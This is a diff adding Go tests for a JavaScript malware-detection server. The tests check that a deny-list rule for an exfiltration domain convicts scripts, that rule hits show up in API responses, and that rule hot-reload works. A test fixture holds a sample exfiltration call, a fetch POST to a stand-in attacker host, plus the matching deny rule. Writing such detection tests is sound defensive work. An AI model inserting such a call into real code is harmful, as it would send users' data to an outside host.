@@ -1,0 +1,244 @@
+package serve
+
+import (
+	"encoding/json"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"jsrevealer/internal/obs"
+	"jsrevealer/internal/rules"
+	"jsrevealer/internal/scan"
+)
+
+// denyRuleJSON deny-lists an exfiltration domain at critical severity; any
+// script whose literals reference it must convict regardless of the model.
+const denyRuleJSON = `{
+  "version": 1,
+  "deny": [
+    {"id": "exfil-c2", "severity": "critical", "domains": ["evil-exfil.example"]}
+  ]
+}`
+
+// writeRuleDir materializes a rule directory with a single file and returns
+// its path, so tests can point Config.RulesDir at a real on-disk set.
+func writeRuleDir(t *testing.T, content string) string {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "deny.json"), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return dir
+}
+
+// denyScript references the deny-listed domain; the flagEvil stub model
+// considers it benign (no "evil();" call), so any malicious verdict must
+// come from the rules layer.
+const denyScript = `fetch("https://evil-exfil.example/collect", {method: "POST"});`
+
+// TestRulesDenyFlipsDetectVerdict is the acceptance-criterion test: a
+// deny-listed domain flips a model-benign script to malicious through
+// /detect, with rule provenance in the JSON response.
+func TestRulesDenyFlipsDetectVerdict(t *testing.T) {
+	dir := writeRuleDir(t, denyRuleJSON)
+	_, ts, _ := newTestServer(t, Config{
+		ModelPath: "model",
+		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
+		RulesDir:  dir,
+	})
+
+	resp, err := http.Post(ts.URL+"/detect?name=deny.js", "text/javascript",
+		strings.NewReader(denyScript))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("status = %d, want 200", resp.StatusCode)
+	}
+	var body struct {
+		Verdict   string      `json:"verdict"`
+		Malicious bool        `json:"malicious"`
+		Tier      string      `json:"tier"`
+		RuleHits  []rules.Hit `json:"rule_hits"`
+	}
+	if err := json.NewDecoder(resp.Body).Decode(&body); err != nil {
+		t.Fatal(err)
+	}
+	if !body.Malicious {
+		t.Fatalf("deny-listed script not convicted: %+v", body)
+	}
+	if body.Tier != scan.TierRules {
+		t.Fatalf("tier = %q, want %q", body.Tier, scan.TierRules)
+	}
+	if len(body.RuleHits) == 0 || body.RuleHits[0].Rule != "exfil-c2" {
+		t.Fatalf("rule_hits missing deny provenance: %+v", body.RuleHits)
+	}
+
+	// A clean script through the same server stays model-governed benign:
+	// the rules layer must not leak verdicts across requests.
+	resp2, err := http.Post(ts.URL+"/detect?name=clean.js", "text/javascript",
+		strings.NewReader("var x = 1 + 2;"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp2.Body.Close()
+	var clean struct {
+		Malicious bool            `json:"malicious"`
+		RuleHits  json.RawMessage `json:"rule_hits"`
+	}
+	if err := json.NewDecoder(resp2.Body).Decode(&clean); err != nil {
+		t.Fatal(err)
+	}
+	if clean.Malicious {
+		t.Fatal("clean script convicted with rules enabled")
+	}
+	if len(clean.RuleHits) != 0 {
+		t.Fatalf("clean script carries rule_hits: %s", clean.RuleHits)
+	}
+}
+
+// TestRulesDenyVisibleInScanNDJSON checks the batch surface: rule_hits must
+// ride each NDJSON verdict line, and only on the lines that actually hit.
+func TestRulesDenyVisibleInScanNDJSON(t *testing.T) {
+	dir := writeRuleDir(t, denyRuleJSON)
+	_, ts, _ := newTestServer(t, Config{
+		ModelPath: "model",
+		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
+		RulesDir:  dir,
+	})
+
+	var b strings.Builder
+	for _, rec := range []record{
+		{Name: "clean.js", Source: "var x = 1;"},
+		{Name: "deny.js", Source: denyScript},
+	} {
+		line, _ := json.Marshal(rec)
+		b.Write(line)
+		b.WriteByte('\n')
+	}
+	resp, err := http.Post(ts.URL+"/scan", "application/x-ndjson", strings.NewReader(b.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("status = %d, want 200", resp.StatusCode)
+	}
+	lines := decodeLines(t, resp.Body)
+	deny, ok := lines["deny.js"]
+	if !ok {
+		t.Fatalf("no verdict line for deny.js: %v", lines)
+	}
+	if !deny.Malicious || len(deny.RuleHits) == 0 || deny.RuleHits[0].Rule != "exfil-c2" {
+		t.Fatalf("deny.js line lacks rule provenance: %+v", deny)
+	}
+	clean := lines["clean.js"]
+	if clean.Malicious || len(clean.RuleHits) != 0 {
+		t.Fatalf("clean.js polluted by rules: %+v", clean)
+	}
+}
+
+// TestReloadRulesEndpoint drives the hot-reload lifecycle: a successful
+// reload bumps the generation, a broken rule file is rejected with 422 while
+// the previous set keeps convicting, and /version reports the live set.
+func TestReloadRulesEndpoint(t *testing.T) {
+	dir := writeRuleDir(t, denyRuleJSON)
+	s, ts, _ := newTestServer(t, Config{
+		ModelPath: "model",
+		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
+		RulesDir:  dir,
+	})
+
+	// Successful reload: same directory, next generation.
+	resp, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("reload status = %d, want 200", resp.StatusCode)
+	}
+	var info rules.Info
+	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
+		t.Fatal(err)
+	}
+	if info.Gen < 2 || info.Rules != 1 {
+		t.Fatalf("reload info = %+v, want gen >= 2 with 1 rule", info)
+	}
+
+	// Corrupt the directory: reload must fail 422 and leave the old set
+	// serving — the acceptance criterion "broken rule file rejected by
+	// shadow validation without dropping traffic".
+	if err := os.WriteFile(filepath.Join(dir, "deny.json"), []byte(`{"version": 1, "deny": [`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	resp2, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp2.Body.Close()
+	if resp2.StatusCode != http.StatusUnprocessableEntity {
+		t.Fatalf("broken reload status = %d, want 422", resp2.StatusCode)
+	}
+
+	// The previous generation still convicts the deny-listed script.
+	resp3, err := http.Post(ts.URL+"/detect", "text/javascript", strings.NewReader(denyScript))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp3.Body.Close()
+	var body struct {
+		Malicious bool   `json:"malicious"`
+		Tier      string `json:"tier"`
+	}
+	if err := json.NewDecoder(resp3.Body).Decode(&body); err != nil {
+		t.Fatal(err)
+	}
+	if !body.Malicious || body.Tier != scan.TierRules {
+		t.Fatalf("old rule set dropped after failed reload: %+v", body)
+	}
+
+	// /version names the live generation — still the pre-failure one.
+	v := s.Version()
+	if v.Rules == nil {
+		t.Fatal("Version.Rules absent with rules enabled")
+	}
+	if v.Rules.Gen != info.Gen {
+		t.Fatalf("Version rules gen = %d, want %d (failed reload must not advance)", v.Rules.Gen, info.Gen)
+	}
+}
+
+// TestReloadRulesUnconfigured verifies the endpoint answers 503 when the
+// server was started without a rule directory.
+func TestReloadRulesUnconfigured(t *testing.T) {
+	_, ts, _ := newTestServer(t, Config{
+		ModelPath: "model",
+		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
+	})
+	resp, err := http.Post(ts.URL+"/admin/reload-rules", "", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusServiceUnavailable {
+		t.Fatalf("status = %d, want 503", resp.StatusCode)
+	}
+}
+
+// TestNewRejectsBrokenInitialRules mirrors the model behavior: a server must
+// refuse to start on an invalid rule directory rather than serve rule-less.
+func TestNewRejectsBrokenInitialRules(t *testing.T) {
+	dir := writeRuleDir(t, `{"version": 99}`)
+	_, err := New(Config{
+		ModelPath: "model",
+		Loader:    stubLoader(map[string]scan.Classifier{"model": flagEvil}),
+		RulesDir:  dir,
+		Scan:      scan.Config{CacheSize: -1},
+	}, obs.NewRegistry())
+	if err == nil {
+		t.Fatal("New accepted a broken rule directory")
+	}
+}
